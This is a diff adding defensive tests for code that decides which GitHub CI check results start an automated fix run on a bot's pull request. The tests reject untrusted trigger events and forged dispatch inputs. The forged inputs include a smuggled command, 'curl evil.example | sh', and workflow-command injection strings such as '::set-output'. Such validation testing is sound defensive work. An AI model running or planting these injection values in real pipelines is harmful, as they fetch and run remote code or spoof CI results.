@@ -23,6 +23,7 @@ const check = (overrides: Partial<CompletedCheck> = {}): CompletedCheck => ({
   headSha: HEAD,
   headBranch: "ralph/issue-7",
   headRepository: "octo/widgets",
+  event: "push",
   workflowPath: ".github/workflows/ci.yml",
   url: "https://github.com/octo/widgets/actions/runs/30433642",
   app: null,
@@ -60,7 +61,7 @@ describe("decideCiFix: which completed check starts a run on the Ralph pull requ
   });
 
   it("a GitHub Actions job's check run starts nothing (its workflow run counts); another app's check run does", () => {
-    const job = check({ kind: "check-run", workflowPath: null, headRepository: null, app: "github-actions" });
+    const job = check({ kind: "check-run", workflowPath: null, headRepository: null, event: null, app: "github-actions" });
     expect(decideCiFix(job, context).kind).toBe("skip");
     expect(decideCiFix({ ...job, app: "circleci-checks" }, context).kind).toBe("lookup");
   });
@@ -70,6 +71,38 @@ describe("decideCiFix: which completed check starts a run on the Ralph pull requ
     expect(decideCiFix(check({ headBranch: "main" }), context).kind).toBe("skip");
     expect(decideCiFix(check({ headBranch: "ralph/issue-07" }), context).kind).toBe("skip");
     expect(decideCiFix(check({ headBranch: null }), context).kind).toBe("skip");
+  });
+
+  it("a workflow run that does not name its head's repository starts nothing: only this repository's commits count", () => {
+    expect(decideCiFix(check({ headRepository: null }), context)).toEqual({
+      kind: "skip",
+      reason: 'workflow run "CI" does not name the repository of its head commit',
+    });
+  });
+
+  it.each(["pull_request_target", "workflow_run", "issue_comment", "schedule", null])(
+    "a workflow run made by %s (its head is not what it tested, or anyone's pull request may make it fail) starts nothing",
+    (event) => {
+      expect(decideCiFix(check({ event }), context)).toEqual({
+        kind: "skip",
+        reason: `workflow run "CI" was made by ${event ?? "an unnamed event"}, not by a push or pull request of its branch`,
+      });
+    },
+  );
+
+  it.each(["push", "pull_request", "workflow_dispatch"])("a workflow run made by %s on the Ralph branch counts", (event) => {
+    expect(decideCiFix(check({ event }), context).kind).toBe("lookup");
+  });
+
+  it("names the check on one line in its reasons, so a name cannot start a workflow command in the job log", () => {
+    const decision = decideCiFix(
+      check({ name: "CI\n::set-output name=outcome::complete\r\n::error::x", conclusion: "cancelled" }),
+      context,
+    );
+    expect(decision).toEqual({
+      kind: "skip",
+      reason: 'workflow run "CI ::set-output name=outcome::complete ::error::x" concluded cancelled, not a failure',
+    });
   });
 
   it("a check on a commit that is no longer the head starts nothing", () => {
@@ -90,6 +123,25 @@ describe("decideCiFix: which completed check starts a run on the Ralph pull requ
     expect(decision).toMatchObject({ kind: "capped", issueNumber: 7, pullRequest: 12 });
     expect(decision.kind === "capped" && decision.reason).toContain("ci-fix-runs: 2");
     expect(decideCiFix(check(), { ...context, maxRuns: 0 }, { pull: pull(), consecutive: 0 }).kind).toBe("capped");
+  });
+});
+
+describe("readCheckInput: the check a dispatch names", () => {
+  it("reads workflow-run:<id>:<attempt>, and nothing else: no id a number cannot hold exactly, no extra text", () => {
+    expect(readCheckInput(" workflow-run:9007199254740991:2 ")).toEqual({ kind: "workflow-run", id: 9007199254740991, attempt: 2 });
+    for (const forged of [
+      "workflow-run:9007199254740993:1",
+      "workflow-run:9999999999999999:1",
+      "workflow-run:1:1\n::set-output name=outcome::complete",
+      "workflow-run:1:1; curl evil.example | sh",
+      "workflow-run:0:1",
+      "workflow-run:-1:1",
+      "workflow-run:1e3:1",
+      "check-run:1:1",
+      "",
+    ]) {
+      expect(readCheckInput(forged)).toBeNull();
+    }
   });
 });
 
